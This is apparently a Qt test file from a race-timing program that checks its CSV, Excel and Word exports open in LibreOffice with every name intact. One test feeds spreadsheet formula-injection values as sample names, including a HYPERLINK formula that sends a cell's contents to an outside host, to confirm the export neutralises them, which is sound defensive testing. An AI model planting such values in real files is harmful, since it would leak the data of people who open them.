// SPDX-FileCopyrightText: 2024-2026 Rennzeit developers
// SPDX-License-Identifier: GPL-3.0-or-later

#include "app/ClubRace.h"
#include "gridstore/CellStore.h"
#include "gridstore/GridCommaText.h"
#include "gridstore/GridCsvText.h"
#include "protocol/Columns.h"
#include "protocol/ExcelExport.h"
#include "protocol/ExportText.h"
#include "protocol/ProtocolFiles.h"
#include "protocol/ResultsCsv.h"
#include "protocol/WordExport.h"

#include "support/RecordingShell.h"
#include "support/TestSupport.h"
#include <QDate>
#include <QDir>

#include "ZipEntry.h"

#include <QProcess>
#include <QRegularExpression>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QXmlStreamReader>
#include <QtTest>

// The workbook and the document as an office suite opens them: LibreOffice
// converts each, headless, into plain text, and every name must come out as
// it was typed (a character XML forbids as U+FFFD), every time as the table
// shows it.
namespace {

const QList<int> kWidths { 52, 300, 102, 90, 72, 52, -1 };

const QStringList kNames { QStringLiteral("Berg, Anna"), QStringLiteral("Jörg Müller"), QStringLiteral("A<B & C"),
    QStringLiteral("Max \"Blitz\" Meier"), QStringLiteral("Zoë 🏃"),
    QStringLiteral("Ab") + QChar(0xFFFF) + QStringLiteral("cd"), QStringLiteral("Ef") + QChar(0) + QStringLiteral("gh"),
    QStringLiteral("2024"), QStringLiteral("=1+1"), QStringLiteral("@SUMME(A1)"), QStringLiteral("-Berg; Anna") };

QString shownName(const QString& name)
{
    QString shown = name;
    shown.replace(QChar(0xFFFF), QChar(0xFFFD)).replace(QChar(0), QChar(0xFFFD));
    return shown;
}

TCellStore race()
{
    TCellStore cells(protocol::kProtocolColCount, static_cast<int>(kNames.size()) + 2);
    for (int c = 0; c < protocol::kProtocolColCount; ++c)
        cells.SetCell(c, 0, protocol::kProtocolHeaders[static_cast<size_t>(c)]);
    for (int i = 0; i < kNames.size(); ++i) {
        cells.SetRow(i + 1,
            { i == 0 ? QStringLiteral("007") : QString::number(i + 1), kNames[i], QStringLiteral("9:05.12,30"),
                i == 1 ? QStringLiteral("1:02.03,45") : QStringLiteral("1.05,2%1").arg(i), QStringLiteral("0,00"),
                QString::number(i + 1), QStringLiteral("65120") });
    }
    cells.SetRow(static_cast<int>(kNames.size()) + 1, { "", "", "", "", "", "-", "" });
    return cells;
}

// What every cell of a sheet shows by its reference ("B2"): the text of a
// shared or inline string, the value of a number.
QMap<QString, QString> sheetTexts(const QByteArray& sheet, const QByteArray& shared)
{
    const QStringList strings = XlsxSharedStrings(shared);
    QMap<QString, QString> texts;
    QXmlStreamReader r(sheet);
    QString ref, type;
    while (!r.atEnd()) {
        r.readNext();
        if (r.isStartElement() && r.name() == QLatin1String("c")) {
            ref = r.attributes().value(QLatin1String("r")).toString();
            type = r.attributes().value(QLatin1String("t")).toString();
        } else if (r.isStartElement() && r.name() == QLatin1String("v") && type == QLatin1String("s")) {
            texts[ref] = strings.value(r.readElementText().toInt());
        } else if (r.isStartElement() && r.name() == QLatin1String("v")
            && (type.isEmpty() || type == QLatin1String("n"))) {
            texts[ref] = r.readElementText();
        } else if (r.isStartElement() && r.name() == QLatin1String("t") && type == QLatin1String("inlineStr")) {
            texts[ref] += r.readElementText();
        }
    }
    return texts;
}

} // namespace

class TestOfficeOpen : public QObject {
    Q_OBJECT
private:
    QTemporaryDir m_dir;
    QString m_soffice;
    platform::RecordingShell m_shell;

    // Converts a file with LibreOffice into the folder "out"; the result's
    // text, empty on failure.
    QString convert(const QString& file, const QString& filter, const QString& suffix, const QStringList& options = {})
    {
        QFile f(convertFile(file, filter, suffix, options));
        if (!f.open(QIODevice::ReadOnly))
            return {};
        return QString::fromUtf8(f.readAll());
    }

    // The converted file's path, empty on failure.
    QString convertFile(const QString& file, const QString& filter, const QString& suffix, const QStringList& options)
    {
        const QString out = m_dir.filePath(QStringLiteral("out"));
        QProcess p;
        p.setProcessChannelMode(QProcess::MergedChannels);
        QStringList arguments { QStringLiteral("--headless"), QStringLiteral("--norestore"),
            QStringLiteral("-env:UserInstallation=file://") + m_dir.filePath(QStringLiteral("profile")) };
        arguments << options << QStringLiteral("--convert-to") << filter << QStringLiteral("--outdir") << out << file;
        p.start(m_soffice, arguments);
        if (!p.waitForFinished(180000)) {
            p.kill();
            p.waitForFinished();
            qWarning("LibreOffice did not finish within three minutes");
            return {};
        }
        const QString converted = out + QLatin1Char('/') + QFileInfo(file).completeBaseName() + suffix;
        if (!QFileInfo::exists(converted)) {
            qWarning("no %s: %s", qPrintable(converted), p.readAll().constData());
            return {};
        }
        return converted;
    }

private slots:
    void initTestCase()
    {
        m_soffice = QStandardPaths::findExecutable(QStringLiteral("soffice"));
        if (m_soffice.isEmpty())
            QSKIP("LibreOffice is not installed (Debian packages libreoffice-calc-nogui and "
                  "libreoffice-writer-nogui, which scripts/install-deps.sh --tests installs)");
        QVERIFY(m_dir.isValid());
        platform::SetShell(&m_shell);
    }
    void cleanupTestCase() { platform::SetShell(nullptr); }

    // What a registration form may put into a start list: a spreadsheet
    // opening the CSV export shows each of these as the text it is (a
    // formula-like one at most with its protective apostrophe, a TAB or line
    // break as the blank the writer puts in its place, trimmed at the ends as
    // the loader trims it), computes no formula and shifts no column; the
    // program reads the file back as it was.
    void csv_opensWithTextCellsOnly_andNothingShifted()
    {
        const QStringList hostile { QStringLiteral("=HYPERLINK(\"http://example.invalid/?x=\"&A1;\"klick\")"),
            QStringLiteral("=1+1"), QStringLiteral("+49 170 1234"), QStringLiteral("-Berg"),
            QStringLiteral("@SUMME(A1)"), QStringLiteral("\t=2"), QStringLiteral("Berg; Anna"),
            QStringLiteral("Max \"Blitz\" Meier"), QStringLiteral("Zeile 1\r\nZeile 2"), QStringLiteral("2024"),
            QStringLiteral("-7") };
        TCellStore cells(protocol::kProtocolColCount, static_cast<int>(hostile.size()) + 1);
        for (int c = 0; c < protocol::kProtocolColCount; ++c)
            cells.SetCell(c, 0, protocol::kProtocolHeaders[static_cast<size_t>(c)]);
        for (int i = 0; i < hostile.size(); ++i)
            cells.SetRow(i + 1,
                { QString::number(i + 1), hostile[i], "9:05.12,30", "1.05,2" + QString::number(i % 10), "0,00",
                    QString::number(i + 1), "65120" });
        const QString csv = m_dir.filePath(QStringLiteral("start.csv"));
        QVERIFY(WriteFileBytes(csv, GridCsvBytes(cells)));

        // As a spreadsheet opens it: ";" separated, quoted with '"', UTF-8.
        const QString xlsx = convertFile(
            csv, QStringLiteral("xlsx"), QStringLiteral(".xlsx"), { QStringLiteral("--infilter=CSV:59,34,76,1") });
        QVERIFY(!xlsx.isEmpty());
        const QString keep = qEnvironmentVariable("RENNZEIT_SCREENSHOT_DIR");
        if (!keep.isEmpty() && QDir().mkpath(keep)) {
            for (const QString& file : { csv, xlsx }) {
                QFile::remove(QDir(keep).filePath(QFileInfo(file).fileName()));
                QFile::copy(file, QDir(keep).filePath(QFileInfo(file).fileName()));
            }
        }
        const QByteArray sheet = ReadZipEntry(xlsx, QStringLiteral("xl/worksheets/sheet1.xml"));
        QVERIFY(!sheet.isEmpty());
        QVERIFY2(!sheet.contains("<f>") && !sheet.contains("<f "), sheet.constData());
        const QMap<QString, QString> texts
            = sheetTexts(sheet, ReadZipEntry(xlsx, QStringLiteral("xl/sharedStrings.xml")));
        for (int i = 0; i < hostile.size(); ++i) {
            const QString row = QString::number(i + 2);
            const QString shown = texts.value(QStringLiteral("B") + row);
            const QString expected = TrimBlanks(WithoutCellBreaks(hostile[i]));
            QVERIFY2(shown == expected || shown == QLatin1Char('\'') + expected,
                qPrintable(QStringLiteral("B%1: %2").arg(row, shown)));
            // Nothing shifted: the start time is still in column C.
            QVERIFY2(texts.contains(QStringLiteral("C") + row) || sheet.contains("r=\"C" + row.toLatin1() + "\""),
                qPrintable(row));
            QVERIFY(!texts.contains(QStringLiteral("H") + row));
        }
        // And the program reads it back to the same table.
        const std::optional<protocol::LoadedProtocol> loaded = protocol::LoadProtocolText(csv);
        QVERIFY(loaded && loaded->ok());
        QCOMPARE(int(loaded->rows.size()), int(hostile.size()));
        for (int i = 0; i < hostile.size(); ++i) {
            QStringList row = cells.Row(i + 1);
            row[protocol::kColName] = TrimBlanks(WithoutCellBreaks(row[protocol::kColName]));
            QCOMPARE(loaded->rows[size_t(i)], row);
        }
    }

    // Opened with a comma as a separator besides the semicolon (as a
    // spreadsheet's import is often set), the results of a race with classes keep every name and time
    // in its column: "2,79" and "1.00,00" are not split, " =3+3" keeps its
    // blank, and "Gesamt" follows "Platz".
    void resultsCsv_withCommaSeparator_splitsNoCell()
    {
        TCellStore cells(protocol::kTableColCount, 4);
        for (int c = 0; c < protocol::kTableColCount; ++c)
            cells.SetCell(c, 0, protocol::kTableHeaders[static_cast<size_t>(c)]);
        cells.SetRow(1, { "1", "2,79", "10:00.00,00", "1.00,00", "0,00", "1", "60000", "Damen", "", "2" });
        cells.SetRow(2, { "2", " =3+3", "10:00.10,00", "0.50,00", "0,10", "1", "50000", "Herren", "", "1" });
        cells.SetRow(3, { "3", "Berg; \"Blitz\"", "10:00.20,00", "", "0,20", "", "600", "Herren", "DNF", "" });
        const QString csv = m_dir.filePath(QStringLiteral("ergebnis.csv"));
        QVERIFY(protocol::WriteResultsCsv(cells, { "Herren", "Damen" }, csv));
        const QString xlsx = convertFile(
            csv, QStringLiteral("xlsx"), QStringLiteral(".xlsx"), { QStringLiteral("--infilter=CSV:59/44,34,76,1") });
        QVERIFY(!xlsx.isEmpty());
        const QByteArray sheet = ReadZipEntry(xlsx, QStringLiteral("xl/worksheets/sheet1.xml"));
        QVERIFY2(!sheet.contains("<f>") && !sheet.contains("<f "), sheet.constData());
        const QMap<QString, QString> texts
            = sheetTexts(sheet, ReadZipEntry(xlsx, QStringLiteral("xl/sharedStrings.xml")));
        QCOMPARE(texts.value("F1"), QStringLiteral("Platz"));
        QCOMPARE(texts.value("G1"), QStringLiteral("Gesamt"));
        QCOMPARE(texts.value("H1"), QStringLiteral("*"));
        QCOMPARE(texts.value("B2"), QStringLiteral(" =3+3"));
        QCOMPARE(texts.value("B3"), QStringLiteral("Berg; \"Blitz\""));
        // Quoted, the name stays one cell; the spreadsheet may still read
        // it as the number it looks like.
        QVERIFY2(texts.value("B4") == QStringLiteral("2,79") || texts.value("B4") == QStringLiteral("2.79"),
            qPrintable(texts.value("B4")));
        QVERIFY(texts.contains("C4"));
        QCOMPARE(texts.value("I4"), QStringLiteral("Damen"));
        QVERIFY(!texts.contains("K2") && !texts.contains("K3") && !texts.contains("K4"));
    }

    void workbook_opensWithEveryNameAndTime()
    {
        QVERIFY(UseDocumentsFolder(m_dir.path()));
        const bool exported = protocol::ExcelExport(race());
        QVERIFY(UseDocumentsFolder(QString()));
        QVERIFY(exported);
        QCOMPARE(m_shell.calls.size(), 1);
        const QString workbook = m_shell.calls.takeFirst().mid(5);

        // Comma-separated, quoted, UTF-8, cells as shown.
        const QString csv = convert(
            workbook, QStringLiteral("csv:Text - txt - csv (StarCalc):44,34,76,1,,1031"), QStringLiteral(".csv"));
        QVERIFY(!csv.isEmpty());
        QStringList lines = csv.split(QLatin1Char('\n'), Qt::SkipEmptyParts);
        for (QString& line : lines)
            line = line.trimmed();
        QCOMPARE(lines.size(), kNames.size() + 1);
        QCOMPARE(lines[0], QStringLiteral("Nr.,Name,Start,Zeit,Split,Platz"));
        for (int i = 0; i < kNames.size(); ++i) {
            QString name = shownName(kNames[i]);
            name.replace(QLatin1Char('"'), QLatin1String("\"\""));
            QVERIFY2(lines[i + 1].contains(QLatin1Char('"') + name + QLatin1Char('"'))
                    || lines[i + 1].contains(QLatin1Char(',') + name + QLatin1Char(',')),
                qPrintable(lines[i + 1]));
        }
        // Number "007" stays text; the times show as the table shows them, with
        // the decimal separator of the converter's language.
        const QRegularExpression first(
            QStringLiteral("^007,\"Berg, Anna\",\"?9:05:12[.,]30\"?,\"?01:05[.,]20\"?,\"?00:00[.,]00\"?,1$"));
        QVERIFY2(first.match(lines[1]).hasMatch(), qPrintable(lines[1]));
        const QRegularExpression hours(QStringLiteral(",\"?1:02:03[.,]45\"?,"));
        QVERIFY2(hours.match(lines[2]).hasMatch(), qPrintable(lines[2]));
    }

    // With classes: the word processor shows each class's name before its
    // table, the ranked entries first and DNF, DSQ, DNS below them; the
    // spreadsheet shows the overall sheet and one sheet per class.
    void classes_documentAndWorkbookOpenGroupedByClass()
    {
        const QList<int> widths { 52, 300, 102, 90, 72, 52, -1, 72, -1, 64 };
        const QString document = m_dir.filePath(QStringLiteral("klassen.docx"));
        QVERIFY(protocol::WordExport(protocol::kWordSaveMode, document, ClassRace(), widths,
            QStringLiteral(RENNZEIT_BIN_DIR "/Protokollvorlage.docx"), {}, nullptr, QString(), kClassOrder));
        const QString text = convert(document, QStringLiteral("txt:Text (encoded):UTF8"), QStringLiteral(".txt"));
        QVERIFY(!text.isEmpty());
        qsizetype at = -1;
        for (const char* word :
            { "Damen", "Anna", "Fred", "Cora", "DNF", "Eva", "DNS", "Herren", "Bert", "Dirk", "DSQ" }) {
            const qsizetype found = text.indexOf(QString::fromLatin1(word), at + 1);
            QVERIFY2(found > at, qPrintable(QStringLiteral("%1 in\n%2").arg(QLatin1String(word), text)));
            at = found;
        }

        QVERIFY(UseDocumentsFolder(m_dir.path()));
        const bool exported = protocol::ExcelExport(ClassRace(), nullptr, nullptr, QString(), kClassOrder);
        QVERIFY(UseDocumentsFolder(QString()));
        QVERIFY(exported);
        const QString workbook = m_shell.calls.takeLast().mid(5);
        const QString html = convert(workbook, QStringLiteral("html"), QStringLiteral(".html"));
        QVERIFY(!html.isEmpty());
        QString plain = html;
        plain.remove(QRegularExpression(QStringLiteral("<[^>]*>")));
        at = -1;
        for (const char* word : { "Gesamt", "Bert", "Anna", "Fred", "Cora", "Dirk", "Eva", "Damen", "Anna", "Fred",
                 "Cora", "Eva", "Herren", "Bert", "Dirk" }) {
            const qsizetype found = plain.indexOf(QString::fromLatin1(word), at + 1);
            QVERIFY2(found > at, qPrintable(QStringLiteral("%1 in\n%2").arg(QLatin1String(word), plain.left(3000))));
            at = found;
        }
    }

    // With a race title the workbook's sheet and the document's header carry
    // it, as the office suite shows them.
    void titled_workbookAndDocument_showTheRaceTitle()
    {
        const QString title = QStringLiteral("Vereinsmeisterschaft Slalom 2027 – Jörg's <Lauf> & Co");
        QVERIFY(UseDocumentsFolder(m_dir.path()));
        const bool exported = protocol::ExcelExport(race(), nullptr, nullptr, title);
        QVERIFY(UseDocumentsFolder(QString()));
        QVERIFY(exported);
        const QString workbook = m_shell.calls.takeLast().mid(5);
        const QString csv = convert(
            workbook, QStringLiteral("csv:Text - txt - csv (StarCalc):44,34,76,1,,1031"), QStringLiteral(".csv"));
        QStringList lines = csv.split(QLatin1Char('\n'), Qt::SkipEmptyParts);
        for (QString& line : lines)
            line = line.trimmed();
        // The empty row between the heading and the table.
        lines.removeIf([](const QString& line) { return line.count(QLatin1Char(',')) == line.size(); });
        QVERIFY2(lines.size() > 3, qPrintable(csv));
        QVERIFY2(lines[0].startsWith(title) || lines[0].startsWith('"' + title + '"'), qPrintable(lines[0]));
        QVERIFY2(lines[1].startsWith(protocol::ResultsOfDay(QDate::currentDate())), qPrintable(lines[1]));
        QVERIFY2(lines[2].startsWith(QStringLiteral("Nr.,Name,Start")), qPrintable(lines[2]));
        QCOMPARE(lines.size(), kNames.size() + 3);

        const QString document = m_dir.filePath(QStringLiteral("titel.docx"));
        QVERIFY(protocol::WordExport(protocol::kWordSaveMode, document, race(), kWidths,
            QStringLiteral(RENNZEIT_BIN_DIR "/Protokollvorlage.docx"), {}, nullptr, title));
        const QString pdf = convertFile(document, QStringLiteral("pdf"), QStringLiteral(".pdf"), {});
        QVERIFY(!pdf.isEmpty());
        QProcess p;
        p.start(QStringLiteral("pdftotext"), { pdf, QStringLiteral("-") });
        QVERIFY(p.waitForFinished(60000));
        const QString text = QString::fromUtf8(p.readAllStandardOutput());
        QVERIFY2(text.contains(title), qPrintable(text.left(400)));
    }

    void document_opensWithEveryName()
    {
        const QString document = m_dir.filePath(QStringLiteral("lauf.docx"));
        QVERIFY(protocol::WordExport(protocol::kWordSaveMode, document, race(), kWidths,
            QStringLiteral(RENNZEIT_BIN_DIR "/Protokollvorlage.docx")));
        const QString text = convert(document, QStringLiteral("txt:Text (encoded):UTF8"), QStringLiteral(".txt"));
        QVERIFY(!text.isEmpty());
        for (const QString& name : kNames)
            QVERIFY2(text.contains(shownName(name)), qPrintable(shownName(name)));
        QVERIFY(text.contains(QStringLiteral("1:02.03,45")));
        QVERIFY(!text.contains(QStringLiteral("65120")));
    }
    // Rendered by the word processor: the header shows the race's title (its
    // date), the table's heading row is on every page, and the long name
    // wraps in its column while numbers and times stay on one line.
    void document_rendersWithTitleAndHeadingOnEveryPage()
    {
        constexpr int kEntries = 90;
        TCellStore cells(protocol::kProtocolColCount, kEntries + 2);
        for (int c = 0; c < protocol::kProtocolColCount; ++c)
            cells.SetCell(c, 0, protocol::kProtocolHeaders[static_cast<size_t>(c)]);
        for (int i = 1; i <= kEntries; ++i) {
            const QString name = i == 3
                ? QStringLiteral("Maximiliane Wilhelmine von Hohenzollern-Sigmaringen zu Lauffen")
                : QStringLiteral("Teilnehmerin %1").arg(i);
            cells.SetRow(i,
                { QString::number(100 + i), name, QStringLiteral("10:%1.00,00").arg(i % 60, 2, 10, QLatin1Char('0')),
                    QStringLiteral("1.%1,74").arg(i % 60, 2, 10, QLatin1Char('0')), QStringLiteral("0,00"),
                    QString::number(i), QString::number(60000 + i) });
        }
        cells.SetRow(kEntries + 1, { "", "", "", "", "", "-", "" });
        const QString document = m_dir.filePath(QStringLiteral("lang.docx"));
        QVERIFY(protocol::WordExport(protocol::kWordSaveMode, document, cells, kWidths,
            QStringLiteral(RENNZEIT_BIN_DIR "/Protokollvorlage.docx")));
        const QString pdf = convertFile(document, QStringLiteral("pdf"), QStringLiteral(".pdf"), {});
        QVERIFY(!pdf.isEmpty());
        const QString keep = qEnvironmentVariable("RENNZEIT_SCREENSHOT_DIR");
        if (!keep.isEmpty() && QDir().mkpath(keep)) {
            QFile::remove(QDir(keep).filePath(QStringLiteral("document.pdf")));
            QFile::copy(pdf, QDir(keep).filePath(QStringLiteral("document.pdf")));
        }
        QProcess p;
        p.start(QStringLiteral("pdftotext"), { QStringLiteral("-layout"), pdf, QStringLiteral("-") });
        QVERIFY(p.waitForFinished(60000));
        const QStringList pages
            = QString::fromUtf8(p.readAllStandardOutput()).split(QLatin1Char('\f'), Qt::SkipEmptyParts);
        QVERIFY2(pages.size() >= 2, qPrintable(QString::number(pages.size())));
        const QString title = protocol::DocumentTitle(QString(), QDate::currentDate());
        const QRegularExpression heading(QStringLiteral("Nr\\.\\s+Name\\s+Start\\s+Zeit\\s+Split\\s+Platz"));
        for (const QString& page : pages) {
            QVERIFY2(page.contains(title), qPrintable(page.left(300)));
            QVERIFY2(heading.match(page).hasMatch(), qPrintable(page.left(300)));
        }
        const QString all = pages.join(QLatin1Char('\n'));
        QVERIFY(all.contains(QStringLiteral("1.03,74")));
        QVERIFY(all.contains(QStringLiteral("Maximiliane Wilhelmine")));
    }
};

QTEST_GUILESS_MAIN(TestOfficeOpen)
#include "tst_officeopen.moc"
